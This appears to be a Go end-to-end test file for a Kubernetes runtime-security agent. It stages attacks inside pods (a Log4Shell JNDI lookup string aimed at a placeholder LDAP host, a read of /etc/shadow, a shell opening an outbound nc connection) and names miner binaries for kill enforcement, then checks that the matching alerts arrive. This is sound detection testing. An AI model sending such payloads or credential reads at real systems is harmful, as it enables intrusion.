package nodee2e

import (
	"bufio"
	"encoding/json"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"

	"github.com/otelcol-k8ssec/otelcol-k8ssec/internal/testenv"
)

// alertTimeout bounds the wait for one alert: the audit webhook batches for up to a
// second, the agent's batch processor and the gateway's queues add a few more; a busy
// two-core machine many more.
const alertTimeout = 2 * time.Minute

// The shipped manifests on a real node: ready as applied, the agent with exactly the
// DaemonSet's capabilities, then attacks from inside pods, each reaching the backend
// as the alerts the rules promise, naming the pod.
func TestDeployedOnANode(t *testing.T) {
	d := deploy(t)
	if *hold {
		d.holdForAPerson(t)
		return
	}
	t.Run("agent has the DaemonSet capabilities only", d.agentCapabilities)
	if t.Failed() {
		return
	}
	t.Run("exec then shell then connect out", d.execShellConnect)
	t.Run("enforcement kills a named binary in a workload", d.enforcement)
	t.Run("privileged pod crash loop and a credential read", d.clusterEvents)
	t.Run("ingress controller logs tailed from the node", d.ingressLogs)
	t.Run("agent restarted without the apiserver", d.agentWithoutAPIServer)
	t.Run("gateway pod deleted under traffic", d.gatewayPodDeleted)
}

// Scenario 3: a pod named as an ingress-nginx controller writes ingress-nginx's log
// format to its stdout; the agent tails it from /var/log/pods (through the kubelet's
// /var/log/containers links) and a Log4Shell request against it raises the ingress
// alert, naming the controller pod.
func (d *deployment) ingressLogs(t *testing.T) {
	const ns, pod = "ingress-nginx", "ingress-nginx-controller-0"
	p := d.runPod(t, ns, pod, map[string]string{"app.kubernetes.io/name": "ingress-nginx"}, "/bin/ingresslog")
	url := "http://" + net.JoinHostPort(p.Status.PodIP, "8080") + "/search?q=$%7Bjndi:ldap://203.0.113.9:1389/a%7D"
	deadline := time.Now().Add(time.Minute)
	for {
		resp, err := http.Get(url)
		if err == nil {
			resp.Body.Close()
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the controller pod does not answer: %v", err)
		}
		time.Sleep(500 * time.Millisecond)
	}
	a := d.sink.wait(t, "Log4Shell JNDI lookup attempt", alertTimeout, func(a alert) bool {
		return a.get("k8s.pod.name") == pod
	})
	t.Logf("ingress alert: %s", a)
}

// Scenario 2: a privileged pod's creation (audit), a crash-looping pod (Kubernetes
// Events, a threshold on the rules tier) and a workload reading /etc/shadow (kernel,
// with the pod's identity), all at once.
func (d *deployment) clusterEvents(t *testing.T) {
	const ns = "shop"
	d.createPod(t, ns, "priv", nil, func(p *corev1.Pod) {
		p.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{Privileged: ptr(true)}
	}, "/bin/sleep", "3600")
	d.createPod(t, ns, "crashy", nil, nil, "/bin/sh", "-c", "exit 1")
	d.createPod(t, ns, "reader", map[string]string{"app": "reader"}, nil,
		"/bin/sh", "-c", "sleep 2; cat /etc/shadow >/dev/null; exec sleep 3600")

	priv := d.sink.wait(t, "Privileged pod created", alertTimeout, func(a alert) bool {
		return a.get("k8s.namespace.name") == ns && a.get("k8s.audit.object.name") == "priv"
	})
	read := d.sink.wait(t, "Sensitive file read", alertTimeout, func(a alert) bool {
		return inPod(ns, "reader")(a) && a.get("file.path") == "/etc/shadow"
	})
	if got := read.get("k8s.pod.label.app"); got != "reader" {
		t.Errorf("%s: k8s.pod.label.app = %q, want reader\n%s", read.Rule, got, read)
	}
	if got := read.get("k8s.container.name"); got != "app" {
		t.Errorf("%s: k8s.container.name = %q, want app\n%s", read.Rule, got, read)
	}
	// Five back-offs: the kubelet's back-off doubles from 10 s, so a few minutes.
	crash := d.sink.wait(t, "Crash-loop burst in one pod", 6*time.Minute, func(a alert) bool {
		return a.get("k8s.object.namespace") == ns && a.get("k8s.object.name") == "crashy"
	})
	t.Logf("privileged pod alert: %s", priv)
	t.Logf("credential read alert: %s", read)
	t.Logf("crash-loop alert: %s", crash)
}

// Scenario 4: the agent's in-kernel enforcement, turned on as a user would (the
// DaemonSet's args), kills a binary named by its path in the container and one named
// by its task name, at exec: kubectl exec reports SIGKILL (137), the exec record says
// sigkill, and the pod keeps running.
//
// deny_exec_paths is not run here: it needs BPF LSM, which this machine's kernel does
// not run (the agent refuses to start without it; TestDenyExecUnderQemu boots a kernel
// that does).
func (d *deployment) enforcement(t *testing.T) {
	const ns, pod = "shop", "miner"
	d.runPod(t, ns, pod, nil, "/bin/sleep", "3600")
	d.patchAgent(t, "enforce.yaml", `- op: add
  path: /spec/template/spec/containers/0/args/-
  value: --set=receivers::ebpf::enforcement::kill_paths=[/usr/local/bin/xmrig-nodee2e]
- op: add
  path: /spec/template/spec/containers/0/args/-
  value: --set=receivers::ebpf::enforcement::container_paths=true
- op: add
  path: /spec/template/spec/containers/0/args/-
  value: --set=receivers::ebpf::enforcement::kill_comms=[minerd-nodee2e]
`)
	for _, c := range []struct{ argv, rule string }{
		{"/usr/local/bin/xmrig-nodee2e", "/usr/local/bin/xmrig-nodee2e"},
		{"/usr/local/bin/minerd-nodee2e", "minerd-nodee2e"},
	} {
		// minerd is busybox under another name: the task's name is the link's.
		out, err := d.node.KubectlErr("exec", "-n", ns, pod, "-c", "app", "--", "/bin/sh", "-c", c.argv+" --version")
		if err == nil || !strings.Contains(out, "exit code 137") {
			t.Errorf("%s in %s/%s: want SIGKILL (exit code 137), got %v:\n%s", c.argv, ns, pod, err, out)
			continue
		}
		rec := d.sink.waitEnforced(t, alertTimeout, func(a alert) bool {
			return a.get("k8s.pod.name") == pod && a.get("k8ssec.enforcement.rule") == c.rule
		})
		if got := rec.get("k8ssec.enforcement.action"); got != "sigkill" {
			t.Errorf("%s: k8ssec.enforcement.action = %q, want sigkill\n%s", c.argv, got, rec)
		}
	}
	if out, err := d.node.KubectlErr("exec", "-n", ns, pod, "-c", "app", "--", "/bin/true"); err != nil {
		t.Errorf("the pod's other programs must still run: %v\n%s", err, out)
	}
}

// agentCapabilities reads the agent's effective capabilities from the kernel and
// compares them with the DaemonSet's securityContext as applied.
func (d *deployment) agentCapabilities(t *testing.T) {
	var ds struct {
		Spec struct {
			Template struct {
				Spec struct {
					Containers []struct {
						SecurityContext struct {
							Privileged   *bool `json:"privileged"`
							Capabilities struct {
								Add  []string `json:"add"`
								Drop []string `json:"drop"`
							} `json:"capabilities"`
						} `json:"securityContext"`
					} `json:"containers"`
				} `json:"spec"`
			} `json:"template"`
		} `json:"spec"`
	}
	out := d.node.Kubectl(t, "-n", namespace, "get", "daemonset", "otelcol-k8ssec-agent", "-o", "json")
	if err := json.Unmarshal([]byte(out), &ds); err != nil {
		t.Fatal(err)
	}
	sc := ds.Spec.Template.Spec.Containers[0].SecurityContext
	if sc.Privileged == nil || *sc.Privileged {
		t.Fatalf("agent privileged: %v", sc.Privileged)
	}
	var want uint64
	for _, c := range sc.Capabilities.Add {
		bit, ok := capBits[strings.ToUpper(c)]
		if !ok {
			t.Fatalf("unknown capability %s in the DaemonSet", c)
		}
		want |= 1 << bit
	}
	pid := agentPID(t)
	got := capEff(t, pid)
	if got != want {
		t.Errorf("agent (pid %d) CapEff %#x, DaemonSet adds %v (%#x)", pid, got, sc.Capabilities.Add, want)
	}
}

// capBits are the capabilities the manifests may name (linux/capability.h).
var capBits = map[string]uint{
	"CHOWN": 0, "DAC_OVERRIDE": 1, "DAC_READ_SEARCH": 2, "FOWNER": 3, "KILL": 5, "SETGID": 6, "SETUID": 7,
	"NET_BIND_SERVICE": 10, "NET_ADMIN": 12, "NET_RAW": 13, "IPC_LOCK": 14, "SYS_MODULE": 16,
	"SYS_CHROOT": 18, "SYS_PTRACE": 19, "SYS_ADMIN": 21, "SYS_RESOURCE": 24, "PERFMON": 38, "BPF": 39,
}

// agentPID finds the agent's process on the node: the image's agent build (or the full
// one) run with the agent's embedded config.
func agentPID(t *testing.T) int {
	t.Helper()
	deadline := time.Now().Add(time.Minute)
	for {
		entries, _ := os.ReadDir("/proc")
		for _, e := range entries {
			pid, err := strconv.Atoi(e.Name())
			if err != nil {
				continue
			}
			cmd, _ := os.ReadFile("/proc/" + e.Name() + "/cmdline")
			if strings.HasPrefix(string(cmd), "/otelcol-k8ssec") && strings.Contains(string(cmd), "\x00--config\x00k8ssec:agent") {
				return pid
			}
		}
		if time.Now().After(deadline) {
			t.Fatal("no agent process on the node")
		}
		time.Sleep(time.Second)
	}
}

func capEff(t *testing.T, pid int) uint64 {
	t.Helper()
	f, err := os.Open("/proc/" + strconv.Itoa(pid) + "/status")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		if v, ok := strings.CutPrefix(sc.Text(), "CapEff:"); ok {
			n, err := strconv.ParseUint(strings.TrimSpace(v), 16, 64)
			if err != nil {
				t.Fatal(err)
			}
			return n
		}
	}
	t.Fatalf("no CapEff in /proc/%d/status", pid)
	return 0
}

// Scenario 1: kubectl exec -it into a workload pod, a shell, a connection out to a
// listener on the node. The audit exec alert (gateway), the runtime shell alert
// (agent) and the correlation sequences (rules tier) each arrive, naming the pod and its labels.
func (d *deployment) execShellConnect(t *testing.T) {
	const ns, pod = "shop", "web-1"
	labels := map[string]string{"app": "web", "tier": "frontend"}
	d.runPod(t, ns, pod, labels, "/bin/sleep", "3600")

	// "Out": the node's address is not one of the private ranges the rule leaves alone.
	l, err := net.Listen("tcp", net.JoinHostPort(d.node.HostIP, "0"))
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	accepted := make(chan struct{}, 1)
	go func() {
		if c, err := l.Accept(); err == nil {
			c.Close()
			accepted <- struct{}{}
		}
	}()
	host, port, _ := net.SplitHostPort(l.Addr().String())

	// -it on a terminal of its own, as a person types it.
	cmd := exec.Command(d.node.KubectlPath(), "exec", "-it", "-n", ns, pod, "-c", "app", "--",
		"/bin/sh", "-c", "nc -w 5 "+host+" "+port+" </dev/null; echo exec-done")
	cmd.Env = append(os.Environ(), "KUBECONFIG="+d.node.Kubeconfig)
	term := testenv.StartTerminal(t, cmd)
	select {
	case <-accepted:
	case <-time.After(time.Minute):
		t.Fatalf("the pod's connection never reached the node's listener; kubectl exec:\n%s", term.Output())
	}

	match := inPod(ns, pod)
	audit := d.sink.wait(t, "Exec or attach into a pod", alertTimeout, match)
	shell := d.sink.wait(t, "Shell spawned in a container", alertTimeout, match)
	seq := d.sink.wait(t, "Exec into a pod, then a shell, then an outbound connection", alertTimeout, match)
	after := d.sink.wait(t, "Shell in a pod right after an exec through the API", alertTimeout, match)
	for _, a := range []alert{audit, shell, seq, after} {
		for k, v := range labels {
			if got := a.get("k8s.pod.label." + k); got != v {
				t.Errorf("%s: k8s.pod.label.%s = %q, want %q\n%s", a.Rule, k, got, v, a)
			}
		}
	}
	// The person who ran kubectl exec is in the audit step only; the alert's text names them.
	if user := audit.get("user.name"); user == "" || !strings.HasPrefix(after.Body, user+" exec'd into") {
		t.Errorf("%s: the text does not name the audit step's user %q: %q", after.Rule, user, after.Body)
	}
	if got := shell.get("k8s.container.name"); got != "app" {
		t.Errorf("%s: k8s.container.name = %q, want app\n%s", shell.Rule, got, shell)
	}
	// The container runtime's own setup of the pod (runc's mounts and unshare before
	// the entrypoint) is not an attack: by the time the sequence fired it had long
	// been reported, so none of it may have alerted.
	for _, rule := range []string{"Mount or namespace change in a container", "Raw or packet socket opened in a container"} {
		if n := d.sink.count(rule, match); n != 0 {
			t.Errorf("%d %q alerts for a pod that only started, exec'd a shell and connected out:\n%s", n, rule, d.sink.summary(match))
		}
	}
	t.Logf("audit alert: %s", audit)
	t.Logf("shell alert: %s", shell)
	t.Logf("sequence alert: %s", seq)
	t.Logf("exec-then-shell alert: %s", after)
}
